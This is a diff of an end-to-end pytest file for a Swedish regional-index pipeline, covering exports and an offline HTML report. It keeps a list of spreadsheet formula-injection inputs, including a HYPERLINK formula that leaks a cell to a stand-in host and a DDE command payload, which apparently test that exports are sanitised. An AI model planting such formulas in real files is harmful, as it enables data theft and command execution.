@@ -1,5 +1,6 @@
 """Issue 5: the published read-only copy (and an analyst session that never blocks a refresh), the exports'
-round trip, and the offline report opened in a real headless Chromium."""
+round trip, the offline report as published, and dbt's docs page in headless Chromium (the report's browser tests
+are in test_report_page.py)."""
 
 import csv
 import itertools
@@ -10,8 +11,8 @@ import duckdb
 import pandas as pd
 import pytest
 
-from tests.cdp import Page, find_chromium
-from tests.conftest import ARTIFACTS, run_pipeline
+from orchestration.cli.browser import Page, find_chromium
+from tests.conftest import run_pipeline
 
 pytestmark = pytest.mark.e2e
 
@@ -90,98 +91,6 @@ def chromium_page(tmp_path):
     page = Page(tmp_path / "chromium-profile")
     yield page
     page.close()
-
-
-# charts are drawn as they come near the screen: first the page, then every chart drawn (as printing does)
-READY = ("document.readyState === 'complete' && (window.renderAllCharts(), true) && "
-         "[...document.querySelectorAll('.chart')].every(c => c.querySelector('.main-svg'))")
-FIRST_SCREEN = ("document.readyState === 'complete' && document.querySelector('#key-findings .card') && "
-                "document.querySelector('.chart .main-svg')")
-# The text a reader can see, with every collapsed data table opened: the page's HTML text minus code samples (file
-# names, dataset codes), plus every text drawn inside a chart (axis titles, ticks, legends, labels).
-VISIBLE_TEXT = r"""(() => {
-  document.querySelectorAll('details').forEach(d => d.open = true);
-  const copy = document.body.cloneNode(true);
-  copy.querySelectorAll('code, script, style, svg').forEach(e => e.remove());
-  document.body.appendChild(copy);
-  const text = copy.innerText;
-  copy.remove();
-  return text + '\n' + [...document.querySelectorAll('svg text')].map(t => t.textContent).join('\n');
-})()"""
-# WCAG contrast of every visible HTML text against the background it is drawn on (chart texts are plotly's #444 on
-# white; bar labels take plotly's automatic contrasting colour).
-LOW_CONTRAST = r"""(() => {
-  const rgb = s => { const m = s.match(/[\d.]+/g).map(Number); return m.length === 3 ? [...m, 1] : m; };
-  const lum = c => { const f = v => { v /= 255; return v <= 0.03928 ? v / 12.92 : Math.pow((v + 0.055) / 1.055, 2.4); };
-                     return 0.2126 * f(c[0]) + 0.7152 * f(c[1]) + 0.0722 * f(c[2]); };
-  const background = el => { for (; el; el = el.parentElement) { const c = rgb(getComputedStyle(el).backgroundColor);
-                             if (c[3] > 0.99) return c; } return [255, 255, 255, 1]; };
-  const low = new Set();
-  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
-  while (walker.nextNode()) {
-    const node = walker.currentNode, el = node.parentElement;
-    if (!node.textContent.trim() || el.closest('svg') || !el.getClientRects().length) continue;
-    const a = lum(rgb(getComputedStyle(el).color)), b = lum(background(el));
-    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
-    if (ratio < 4.5) low.add(el.tagName + ' ' + ratio.toFixed(2) + ' ' + node.textContent.trim().slice(0, 40));
-  }
-  return [...low];
-})()"""
-RAW_ID = re.compile(r"\b[a-z]+_[a-z_]+\b")
-DECIMAL_POINT = re.compile(r"(?<![\d.§])\d+\.\d+(?![\d.])")  # 54.5, not §2.1.1
-
-
-def _viewport(page: Page, width: int) -> None:
-    page.call("Emulation.setDeviceMetricsOverride", {"width": width, "height": 1000, "deviceScaleFactor": 1,
-                                                      "mobile": width < 600}, session=True)
-
-
-@pytest.mark.parametrize("name", ["report.html", "report_en.html"])
-def test_report_renders_offline_in_headless_chromium(built, chromium_page, name):
-    """Issue "A report that answers": the report in a real browser, as a reader meets it."""
-    report = built["publish"] / name
-    assert 1_000_000 < report.stat().st_size <= 6_000_000  # plotly.js embedded once; one file at most 6 MB
-    _viewport(chromium_page, 1400)
-    chromium_page.open(report.as_uri(), ready=FIRST_SCREEN)  # the first screen draws its charts by itself
-    assert chromium_page.evaluate("document.querySelectorAll('.chart .main-svg').length") < 20  # not all 80
-    chromium_page.open(report.as_uri(), ready=READY)
-    n_charts = chromium_page.evaluate("document.querySelectorAll('.chart').length")
-    rendered = chromium_page.evaluate("document.querySelectorAll('.chart .plotly-graph-div .main-svg').length")
-    assert n_charts >= 40 and rendered >= n_charts
-    assert chromium_page.console_errors() == []
-    foreign = [u for u in chromium_page.requested_urls() if not u.startswith(("file:", "data:", "about:"))]
-    assert foreign == []
-    # key findings first: the overall card and one per dimension, the printed report's findings, and the map
-    assert chromium_page.evaluate("document.querySelectorAll('#key-findings .card').length") == 13  # 12 + overall
-    assert chromium_page.evaluate("document.querySelectorAll('.findings li').length") >= 15
-    from analysis.report.texts import TEXT
-
-    map_title = TEXT["sv" if name == "report.html" else "en"]["map_title"].split("{")[0]
-    assert chromium_page.evaluate(f"[...document.querySelectorAll('.chart')].some(c => c.getAttribute('aria-label')"
-                                  f".startsWith('{map_title}') && c.querySelectorAll('.scatterlayer .trace').length > 20)")
-    # every chart has an accessible name, a data table and a CSV download
-    assert chromium_page.evaluate("[...document.querySelectorAll('figure.chart')].every(c => "
-                                  "c.getAttribute('aria-label') && c.querySelector('details table tbody tr') && "
-                                  "c.querySelector('a[download][href^=\"data:text/csv\"]'))")
-    text = chromium_page.evaluate(VISIBLE_TEXT)
-    assert ("Relativ utveckling" if name == "report.html" else "Relative development") in text
-    assert "Västerbotten" in text
-    assert sorted(set(RAW_ID.findall(text))) == []  # no code is ever shown to a reader
-    if name == "report.html":
-        # 54,5 on the Swedish page, never 54.5 (a cited title's "Industry 4.0" and the licence "CC BY 4.0" are names)
-        names = text.replace("Industry 4.0", "Industry").replace("CC BY 4.0", "CC BY")
-        assert DECIMAL_POINT.findall(names) == []
-    assert chromium_page.evaluate(LOW_CONTRAST) == []
-    chromium_page.evaluate("document.querySelectorAll('details').forEach(d => d.open = false); window.scrollTo(0, 0)")
-    shot = chromium_page.screenshot(ARTIFACTS / name.replace(".html", "-1400.png"))
-    assert shot.stat().st_size > 10_000
-    # a phone: no horizontal scroll at 400 px, charts resized to the screen
-    _viewport(chromium_page, 400)
-    chromium_page.open(report.as_uri(), ready=READY)
-    assert chromium_page.evaluate("document.scrollingElement.scrollWidth") <= 400
-    assert chromium_page.evaluate("Math.max(...[...document.querySelectorAll('.chart .main-svg')].map(s => "
-                                  "s.getBoundingClientRect().width))") <= 400
-    chromium_page.screenshot(ARTIFACTS / name.replace(".html", "-400.png"))
 
 
 FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Källa")', "=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1",
@@ -294,40 +203,24 @@ def test_a_full_refresh_publishes_once(built):
 
 
 @pytest.mark.parametrize("name", ["report.html", "report_en.html"])
-def test_the_report_opens_with_key_findings_and_a_map(built, con, name):
-    import re
+def test_the_report_opens_with_key_findings_and_every_chart_is_a_figure_with_its_data(built, con, name):
+    """The page as published (its browser tests are in test_report_page.py): key findings before the dimensions,
+    both levels of the index named, and every chart a figure with a caption, a source or its data, and its table."""
+    import json
 
     page = (built["publish"] / name).read_text(encoding="utf-8")
-    n_dimensions = con.execute("select count(*) from marts.dim_dimension where dimension_id <> 'context'"
-                               ).fetchone()[0]
-    findings = page[page.index("id='key-findings'"):page.index("id='index'")]
-    assert findings.count("<a class='card") == 1 + n_dimensions  # the overall index and every dimension
-    overall = con.execute("select rank, edition from analysis.index_scores where region_code = '24' and "
-                          "level = 'county' and unit = 'overall' and score is not null order by edition desc limit 1"
-                          ).fetchone()
-    assert re.search(rf"(plats|rank) {int(overall[0])} (av|of) 21", findings)
-    # the län's own index and its NUTS2 region's, each named
-    assert "Övre Norrland (NUTS2" in findings and re.search(r"(plats|rank) \d (av|of) 8", findings)
-    # every rank says how sure it is: the overall index its interval, a dimension that it has none
-    assert findings.count("osäkerhetsintervall" if name == "report.html" else "uncertainty interval") \
-        == findings.count("class='index-line")
-    assert "sweden-geojson" in page and page.index("id='key-findings'") < page.index('id="dim-')
+    findings = page[page.index("id='key-findings'"):page.index("id='map'")]
+    assert "Övre Norrland" in findings and re.search(r"(plats|rank) \d (av|of) 8", findings)
+    assert page.index("id='key-findings'") < page.index('id="dim-')
     assert ("Ingenting är syntetiskt" if name == "report.html" else "Nothing is synthetic") in page
-
-
-@pytest.mark.parametrize("name", ["report.html", "report_en.html"])
-def test_every_chart_has_an_accessible_name_a_data_table_and_a_csv(built, name):
-    import re
-    from urllib.parse import unquote
-
-    page = (built["publish"] / name).read_text(encoding="utf-8")
-    figures = re.findall(r'<figure class="chart" role="group" aria-label="([^"]*)">(.*?)</figure>', page, re.S)
-    assert len(figures) >= 40
-    for label, body in figures:
-        assert label and not label.startswith("chart ")  # named by its title
-        assert '<details class="chart-data">' in body and "<table>" in body
-        link = re.search(r'href="data:text/csv;charset=utf-8,([^"]*)"', body)
-        assert link and len(unquote(link.group(1)).splitlines()) >= 2  # a header and data
+    figures = re.findall(r"<figure class='chart' id='([^']+)' aria-labelledby='\1-t'>(.*?)</figure>", page, re.S)
+    assert len(figures) >= 60
+    for fid, body in figures:
+        assert re.search(rf"<figcaption id='{fid}-t'><span class='chart-title'>[^<]+", body)
+        assert "role='img'" not in body and "<details class='chart-data'" in body
+        spec = json.loads(re.search(r"<script type='application/json' class='chart-spec'>(.*?)</script>", body,
+                                    re.S).group(1))
+        assert spec["table"]["columns"] and spec["table"]["rows"], fid  # the chart's data as a table
 
 
 def test_a_refresh_with_unchanged_inputs_reuses_the_index_the_exports_and_the_report(built, tmp_path):
